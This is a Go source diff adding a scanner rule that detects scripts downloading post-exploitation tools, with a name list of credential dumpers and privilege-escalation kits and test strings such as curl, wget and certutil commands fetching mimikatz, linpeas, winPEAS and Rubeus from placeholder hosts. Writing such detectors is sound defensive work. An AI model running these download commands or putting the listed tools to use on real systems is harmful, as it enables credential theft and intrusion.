@@ -71,9 +71,64 @@ var webInject = &rule{
 	},
 }
 
+var attackToolFetch = &rule{
+	ID: "attack-tool-fetch", Class: "ingress tool transfer", Sev: high,
+	Msg: "downloads a post-exploitation tool by its name (credential dumpers, privilege-escalation scanners, Active Directory attack kits; ATT&CK T1105, T1588.002)",
+	Must: []string{
+		"curl -sLO https://github.com/example/mimikatz/releases/download/2.2.0/mimikatz_trunk.zip",
+		"wget -q http://198.51.100.7/tools/linpeas.sh -O /dev/shm/l.sh",
+		"Invoke-WebRequest -Uri https://example.org/a/winPEASx64.exe -OutFile $env:TEMP\\w.exe",
+		"certutil -urlcache -f http://198.51.100.8/Rubeus.exe C:\\Users\\Public\\r.exe",
+	},
+	MustNot: []string{
+		"curl -LO https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
+		"wget https://example.org/docs/detecting-mimikatz.pdf",
+		"git clone https://github.com/example/sigma-rules-for-lazagne-detection",
+	},
+}
+
 // scriptRules are the checks of this file, for the example test and the
 // list of rule ids.
-var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject}
+var scriptRules = []*rule{collectArchive, keyHarvest, findAppend, webInject, attackToolFetch}
+
+// attackTools are post-exploitation tools that have no use but attack,
+// as their releases and scripts are named (a download of one is the
+// first step of using it).
+var attackTools = set("mimikatz", "invoke-mimikatz", "safetykatz", "pypykatz", "nanodump", "lazagne", "mimipenguin", "winpwn",
+	"powersploit", "powerview", "nishang", "rubeus", "sharphound", "sharpup", "sharpdpapi",
+	"kerbrute", "inveigh", "invoke-inveigh", "crackmapexec", "netexec", "evil-winrm", "pwncat", "weevely",
+	"linpeas", "winpeas", "pspy", "pspy32", "pspy64", "linenum", "linux-exploit-suggester", "juicypotato", "printspoofer",
+	"godpotato", "roguepotato", "sweetpotato")
+
+var (
+	toolSuffixRe = regexp.MustCompile(`^([-_.]?(x64|x86|any|ofs|trunk|master|main|obfuscated|\d+))*$`)
+	toolExtRe    = regexp.MustCompile(`(\.(ps1|psm1|exe|dll|zip|7z|rar|sh|py|pl|tar|gz|tgz|bat|txt))+$`)
+	fetchInvs    = set("curl", "wget", "invoke-webrequest", "invoke-restmethod", "start-bitstransfer", "bitsadmin", "certutil", "aria2c",
+		".downloadfile", ".downloadstring", ".downloaddata", "axel", "fetch")
+)
+
+// namesAttackTool reports whether a URL's path names an attack tool: a
+// segment that is the tool's name, with an architecture, version or
+// archive suffix at most.
+func namesAttackTool(u string) bool {
+	l := asciiLower(u)
+	if i := strings.Index(l, "://"); i >= 0 {
+		l = l[i+3:]
+	}
+	if i := strings.IndexAny(l, "?#"); i >= 0 {
+		l = l[:i]
+	}
+	segs := strings.Split(l, "/")
+	for _, sg := range segs[1:] { // not the host
+		sg = toolExtRe.ReplaceAllString(sg, "")
+		for n := len(sg); n >= 4; n-- {
+			if attackTools[sg[:n]] && toolSuffixRe.MatchString(sg[n:]) {
+				return true
+			}
+		}
+	}
+	return false
+}
 
 var (
 	docExtRe = regexp.MustCompile(`\.(docx?|docm|xlsx?|xlsm|pptx?|pdf|pst|ost|odt|ods|odp|rtf|eml|msg|kdbx)\b`)
@@ -145,6 +200,18 @@ func scriptChecks(a *analysis, put func(r *rule, sev sdk.Severity, s, e int)) {
 	}
 	if l := asciiLower(a.text); search && (distinct(keyExtRe, l, 1) >= 4 || distinct(keyWordRe, l, 1) >= 4) {
 		put(keyHarvest, 0, 0, len(a.text))
+	}
+	for i := range ins {
+		in := &ins[i]
+		if !fetchInvs[in.name] {
+			continue
+		}
+		for _, x := range in.args {
+			if u := urlRe.FindString(x); u != "" && namesAttackTool(u) {
+				put(attackToolFetch, 0, in.start, in.end)
+				break
+			}
+		}
 	}
 	for _, c := range a.calls {
 		if c.name == "find" && findAppends(c) {
